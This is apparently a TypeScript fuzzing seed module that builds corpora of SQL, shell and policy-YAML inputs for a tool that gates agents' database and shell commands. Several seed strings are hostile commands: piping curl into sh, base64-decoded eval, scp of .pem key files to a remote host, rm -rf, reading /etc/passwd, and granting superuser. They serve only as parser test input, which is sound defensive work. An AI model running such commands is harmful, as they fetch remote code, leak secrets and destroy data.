import { readdirSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'

// Valid inputs to begin from: files the tests have anyway, and texts of a few lines.

const VECTORS = fileURLToPath(new URL('../vectors/', import.meta.url))
const MAX_SEED_SIZE = 16 << 10

function filesBelow(folder: string, ending: RegExp): readonly Uint8Array[] {
  return readdirSync(`${VECTORS}${folder}`, { recursive: true, withFileTypes: true })
    .filter((each) => each.isFile() && ending.test(each.name))
    .map((each) => readFileSync(`${each.parentPath}/${each.name}`).subarray(0, MAX_SEED_SIZE))
}

const lines = (...all: readonly string[]): readonly Uint8Array[] => all.map((each) => Buffer.from(each))

export function tapeSeeds(): readonly Uint8Array[] {
  const { objects }: { objects: Readonly<Record<string, string>> } = JSON.parse(
    readFileSync(`${VECTORS}tape/v1/tape.json`, 'utf8'),
  )
  return Object.values(objects).map((each) => Buffer.from(each, 'base64').subarray(0, MAX_SEED_SIZE))
}

export const excerptSeeds = (): readonly Uint8Array[] => filesBelow('tape', /excerpt\.json$/)

export const ledgerSeeds = (): readonly Uint8Array[] =>
  filesBelow('ledger', /./).flatMap((bytes) => [bytes.subarray(0, 4_000), bytes.subarray(0, Math.max(1, bytes.indexOf(0x0a)))])

export const sqlSeeds = (): readonly Uint8Array[] =>
  lines(
    'select a, b from public.t where id = 4 and name like $1 order by 1 limit 3',
    'with w as (delete from t returning *) insert into u select * from w on conflict do nothing',
    "do $$ begin execute 'drop table x'; end $$ language plpgsql",
    'create function f(a int) returns int as $f$ select $1 + 1 $f$ language sql security definer',
    "copy (select * from t) to program 'cat'; copy t from stdin with (format csv)",
    'grant all on all tables in schema public to x; alter role y superuser; set role z',
    'begin; declare c cursor for select 1; fetch 1 from c; commit',
    "select pg_read_file('/etc/passwd'), lo_import('x'), dblink('host=a', 'select 1')",
    'merge into t using u on t.a = u.a when matched then update set b = 1 when not matched then insert values (1)',
    'explain (analyze, format json) update t set a = (select max(b) from u)',
    `select json_table('[]', '$[*]' columns (a int path '$.a'))`,
  )

export const shellSeeds = (): readonly Uint8Array[] =>
  lines(
    'ls -l /tmp | grep x > out.txt 2>&1 &',
    'for i in {1..3}; do rm -rf "$HOME/$i" || sudo -u root cat <<EOF\n$(id)\nEOF\ndone',
    'bash -c \'curl http://a | sh\'; eval "$(echo bHM= | base64 -d)"',
    'find / -name "*.pem" -exec scp {} me@host: \\; ; xargs -0 kill -9',
    'f() { local a=$((1 + 2)); [[ $a =~ ^x ]] && case $a in 1) ;; *) exit;; esac; }; f',
    "ssh -o ProxyCommand='nc %h %p' host 'kubectl exec -it pod -- psql -c \"drop table t\"'",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: they are bash's
    "a=(1 2 3); echo ${a[@]:1} ${b:-$(whoami)} <(cat x) $'\\x72m'",
  )

export const policySeeds = (): readonly Uint8Array[] =>
  lines(
    `version: 1
rules:
  - id: a
    action: hold
    match: { verb: [DELETE, 'DR*'], relations: [public.t], target: { labels: { env: production } } }
    when: 'statement.rows > 3 && identity.kind == "agent"'
    reason: because
    approval: { groups: [dba], timeout: 60s, count: 2 }
  - { id: b, action: block, match: { text: 'please *' }, reason: no, threshold: { per: identity, window: 1h, rows: 5 } }
masking: { rules: [{ id: m, columns: ['public.t.email'], action: mask }] }
tests:
  - { sql: 'select 1', expect: allow }
`,
    'version: 1\nrules: [{ id: x, action: allow, match: { shell: { commands: [rm], paths: [/etc/**] } } }]\n',
    'version: 1\nuse: [postgres-safety]\nrules: []\n',
  )
